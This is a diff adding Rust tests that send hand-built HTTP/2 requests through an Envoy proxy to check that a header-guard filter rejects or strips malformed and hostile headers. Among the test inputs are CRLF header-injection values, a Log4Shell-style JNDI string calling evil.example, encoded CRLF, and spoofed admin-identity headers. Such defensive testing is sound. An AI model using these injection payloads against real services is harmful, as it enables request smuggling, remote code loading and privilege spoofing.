@@ -354,3 +354,166 @@ fn stricter_count_and_total_limits_are_431_by_header_guard() {
     // Under the limits: passes, and the envoy-added fields count too (3 of the 20).
     assert_eq!(e.raw(&many_fields(15)).status, 200);
 }
+
+// ---- The same attacks over HTTP/2 (h2c, prior knowledge: Envoy's listener codec is AUTO) ----
+
+/// HPACK integer (RFC 7541 §5.1).
+fn hpack_int(out: &mut Vec<u8>, prefix_bits: u8, mut n: usize) {
+    let max = (1usize << prefix_bits) - 1;
+    if n < max {
+        out.push(n as u8);
+        return;
+    }
+    out.push(max as u8);
+    n -= max;
+    while n >= 128 {
+        out.push((n % 128 + 128) as u8);
+        n /= 128;
+    }
+    out.push(n as u8);
+}
+
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let l = payload.len();
+    let mut f = vec![(l >> 16) as u8, (l >> 8) as u8, l as u8, kind, flags];
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// One HTTP/2 GET with these extra fields, each sent as an HPACK literal exactly as given (no
+/// client library would send most of them). Returns the response's DATA, or `None` when Envoy
+/// answered with no frames at all (its codec dropped the connection).
+fn h2_get(e: &Envoy, fields: &[(&str, &[u8])]) -> Option<String> {
+    use std::io::{Read, Write};
+    let mut s = std::net::TcpStream::connect(e.listener).unwrap();
+    s.set_read_timeout(Some(std::time::Duration::from_secs(5)))
+        .unwrap();
+    let mut block = Vec::new();
+    let pseudo: [(&str, &[u8]); 4] = [
+        (":method", b"GET"),
+        (":scheme", b"http"),
+        (":path", b"/orders"),
+        (":authority", b"api.example.com"),
+    ];
+    for (k, v) in pseudo.iter().chain(fields) {
+        block.push(0); // literal without indexing, new name
+        hpack_int(&mut block, 7, k.len());
+        block.extend_from_slice(k.as_bytes());
+        hpack_int(&mut block, 7, v.len());
+        block.extend_from_slice(v);
+    }
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    out.extend(h2_frame(4, 0, 0, &[]));
+    out.extend(h2_frame(1, 0x05, 1, &block)); // END_STREAM | END_HEADERS
+    s.write_all(&out).unwrap();
+    let (mut buf, mut data, mut frames) = (Vec::new(), Vec::new(), 0);
+    let mut chunk = [0u8; 16384];
+    loop {
+        match s.read(&mut chunk) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+        }
+        while buf.len() >= 9 {
+            let len = (buf[0] as usize) << 16 | (buf[1] as usize) << 8 | buf[2] as usize;
+            if buf.len() < 9 + len {
+                break;
+            }
+            let (kind, flags) = (buf[3], buf[4]);
+            let payload: Vec<u8> = buf.drain(..9 + len).skip(9).collect();
+            frames += 1;
+            match kind {
+                4 if flags & 1 == 0 => s.write_all(&h2_frame(4, 1, 0, &[])).unwrap(),
+                0 => {
+                    data.extend_from_slice(&payload);
+                    if flags & 1 != 0 {
+                        return Some(String::from_utf8_lossy(&data).into_owned());
+                    }
+                }
+                1 if flags & 1 != 0 => return Some(String::new()),
+                3 | 7 => return Some(String::new()),
+                _ => {}
+            }
+        }
+    }
+    (frames > 0).then(|| String::from_utf8_lossy(&data).into_owned())
+}
+
+#[test]
+fn http2_codec_refuses_cr_lf_nul_ctl_upper_case_names_te_and_bad_content_length() {
+    // RFC 9113 §8.2.1 / §8.2.2: Envoy's HTTP/2 codec drops the connection; header-guard never
+    // runs, the upstream sees nothing.
+    for (name, value) in [
+        ("x-a", &b"a\r\nset-cookie: x=1"[..]),
+        ("x-a", b"a\r\n b"),
+        ("x-a", b"a\0b"),
+        ("x-a", b"a\x01b"),
+        ("X-Upper", b"b"),
+        ("transfer-encoding", b"chunked"),
+        ("content-length", b"abc"),
+    ] {
+        let e = start();
+        assert_eq!(h2_get(&e, &[(name, value)]), None, "{name}: {value:?}");
+        assert_eq!(header_guard_total(&e), 0);
+        assert!(e.upstream_seen().is_empty());
+    }
+}
+
+#[test]
+fn http2_requests_get_the_same_header_guard_checks() {
+    let e = start();
+    let plain = h2_get(&e, &[("accept", b"*/*")]).unwrap();
+    assert!(plain.contains("\"path\": \"/orders\""), "{plain}");
+    // HTTP/2 keeps repeated fields apart (no joining): header-guard counts them.
+    for (fields, code) in [
+        (
+            vec![
+                ("authorization", &b"Bearer a"[..]),
+                ("authorization", b"Bearer b"),
+            ],
+            "header_guard.duplicate",
+        ),
+        (
+            vec![("content-type", b"a/b"), ("content-type", b"c/d")],
+            "header_guard.duplicate",
+        ),
+        (
+            vec![("user-agent", b"${jndi:ldap://evil.example/a}")],
+            "header_guard.denied_pattern",
+        ),
+        (
+            vec![("x-request-id", b"a%0d%0aset-cookie:x=1")],
+            "header_guard.encoded_crlf",
+        ),
+        (
+            vec![("cookie", &[b'a'; 9000][..])],
+            "header_guard.value_too_long",
+        ),
+    ] {
+        let body = h2_get(&e, &fields).unwrap();
+        assert!(
+            body.contains(&format!("\"code\":\"{code}\"")),
+            "{fields:?}: {body}"
+        );
+    }
+    assert_eq!(
+        e.upstream_seen().len(),
+        1,
+        "only the plain request reached the upstream"
+    );
+    // Spoofed, internal and underscore-variant headers are stripped as over HTTP/1.
+    let r = h2_get(
+        &e,
+        &[
+            ("x-internal-user", b"admin"),
+            ("x-forwarded-host", b"evil"),
+            ("x_jwt_sub", b"admin"),
+        ],
+    )
+    .unwrap();
+    assert!(r.contains("\"path\": \"/orders\""), "{r}");
+    let seen = &e.upstream_seen()[1];
+    for h in ["x-internal-user", "x-forwarded-host", "x_jwt_sub"] {
+        assert_eq!(seen.header(h), None, "{h}");
+    }
+}
